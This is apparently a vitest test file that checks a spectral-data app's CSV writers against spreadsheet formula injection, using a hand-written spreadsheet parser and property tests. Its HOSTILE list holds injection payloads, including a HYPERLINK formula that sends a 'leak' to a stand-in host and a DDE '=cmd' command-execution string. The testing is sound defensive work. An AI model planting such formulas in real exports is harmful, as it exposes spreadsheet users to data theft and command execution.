import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { writeCurveCsv } from '@/lib/engine/csv';
import { exportHead, headerBlock, type ExportRow } from '@/lib/catalogue/export';
import { rowsToCsv, seriesToCsv } from '@/components/charts/csv';
import { commentLine, csvRow } from '@/lib/csv/safe';
import { readCurveText } from '@/lib/engine/reader';

/**
 * A file read the way a spreadsheet reads it (common practice, how Excel, LibreOffice
 * Calc and Google Sheets import CSV): every line, `#` lines included, is split at the
 * separator; a quote opens a quoted field only as a field's first character and may
 * run across line ends; `""` inside is a quote; text after the closing quote joins
 * the field. Written here from that description, independently of lib/csv/safe.ts.
 */
function spreadsheetCells(text: string, sep: string): string[] {
  const cells: string[] = [];
  let field = '';
  let quoted = false;
  let atStart = true;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (ch === '"') quoted = false;
      else field += ch;
      continue;
    }
    if (atStart && ch === '"') { quoted = true; atStart = false; continue; }
    if (ch === sep || ch === '\n' || ch === '\r') {
      cells.push(field);
      field = '';
      atStart = true;
      if (ch === '\r' && text[i + 1] === '\n') i++;
      continue;
    }
    field += ch;
    atStart = false;
  }
  cells.push(field);
  return cells;
}

// OWASP "CSV Injection": = + - @ start a formula, also behind spaces some programs trim;
// a leading tab or CR as well. Full-width forms are read as formulas by some spreadsheets
// (from memory), so they count too.
const FORMULA_CHARS = '=+-@＝＋－＠';
function runsAsFormula(cell: string): boolean {
  const t = cell.trimStart();
  if (!t || !FORMULA_CHARS.includes(t[0])) return false;
  // A plain number (a negative transmission or pre-shift) is a value, not a formula.
  return !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(t);
}

/**
 * Cells that would run: split at commas (our separator) and, to be strict, at semicolons too
 * (a spreadsheet in a locale whose list separator is `;` splits there). In the file's own
 * reading no cell may even begin with a tab or CR.
 */
function unsafeCells(file: string): string[] {
  const comma = spreadsheetCells(file, ',');
  return [
    ...comma.filter((c) => runsAsFormula(c) || c.startsWith('\t') || c.startsWith('\r')),
    ...spreadsheetCells(file, ';').filter(runsAsFormula),
  ];
}

const HOSTILE = [
  'x,=HYPERLINK("http://example.invalid/?leak","click")',
  '=1+1',
  ' =1+1',
  '   =cmd|" /C calc"!A0',
  '@SUM(A1:A2)',
  '+1',
  '-1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'a;=1+1',
  'a, @SUM(1)',
  'a,"=1+1"',
  'a, "=1+1",b',
  '"open quote,=1',
  'Hα ,\t-1+1',
  '＝1+1',
  'plain, "quoted" text',
];

const CURVE = { wavelengthNm: [650, 653, 656.3, 659, 662], transmission: [0.01, 0.4, 0.9, 0.3, 0.002] };

describe('single-curve CSV: every cell of every line is safe in a spreadsheet', () => {
  it.each(HOSTILE)('display name %j', (name) => {
    const file = writeCurveCsv({ label: name, contributor: name, lines: [name, 'Ha'], aoi_deg: -5 }, CURVE);
    expect(unsafeCells(file)).toEqual([]);
    // our own reader still reads back exactly the points that were written
    expect(readCurveText(file).points).toEqual(CURVE);
  });

  it('keeps each value on its own comment line', () => {
    const file = writeCurveCsv({ notes: 'first\n650,0.9\r\nsecond' }, CURVE);
    expect(file).toContain('# notes: first 650,0.9 second\n');
  });

  it('keeps negative numbers as numbers', () => {
    expect(writeCurveCsv({ preshift: -0.5 }, CURVE)).toContain('# preshift: -0.5\n');
    expect(writeCurveCsv({}, { wavelengthNm: [1, 2], transmission: [0.5, -0.002] })).toContain('\n2,-0.002\n');
  });
});

describe('bulk export CSV', () => {
  const row = (name: string): ExportRow => ({
    id: 7, label: name, maker: name, lines: [name, 'Ha'], serial: name, licence: 'CC-BY-4.0', revision: 1, instrument: name, aoi_deg: 0,
    lab: name, measured_on: '2025-01-02', verified_at: new Date('2025-02-01T00:00:00Z'), created_at: new Date('2025-01-03T00:00:00Z'),
    cwl_nm: 656.3, fwhm_nm: 3, peak_t: 0.9, contributor: name, wavelength_nm: [650], transmission: [0.5],
  });

  it.each(HOSTILE)('display name %j', (name) => {
    const file = exportHead(1, name) + headerBlock(row(name), 'http://127.0.0.1:3000');
    expect(unsafeCells(file)).toEqual([]);
  });
});

describe('chart and study tables', () => {
  it.each(HOSTILE)('series name %j', (name) => {
    const file = commentLine(`measured and cone-averaged curve: ${name}`) + '\r\n' + seriesToCsv([{ name, x: [1, 2], y: [-1, 0.5] }], 'x', (n) => `${n} T`);
    expect(unsafeCells(file)).toEqual([]);
    expect(file).toContain('\r\n1,-1\r\n');
  });

  it('numbers stay numbers, text is neutralised with an apostrophe (papaparse quoting)', () => {
    expect(rowsToCsv([['=A1,"x"', -0.5, 0.874 * 100, null]])).toBe(`"'=A1,""x""",-0.5,87.4,\r\n`);
    expect(csvRow(['# label', '-1'])).toBe("# label,'-1");
  });

  it('holds for any text (fast-check)', () => {
    const alphabet = fc.constantFrom(...'=+-@,;"\t\r\n a1＝'.split(''));
    fc.assert(
      fc.property(fc.array(fc.oneof(alphabet, fc.string({ maxLength: 3 })), { maxLength: 30 }).map((a) => a.join('')), (text) => {
        const files = [
          writeCurveCsv({ label: text }, CURVE),
          exportHead(0, text),
          rowsToCsv([[text, text], [1, text]]),
          commentLine(text) + '\n' + csvRow(['# x', text]),
        ];
        for (const f of files) expect(unsafeCells(f)).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });
});
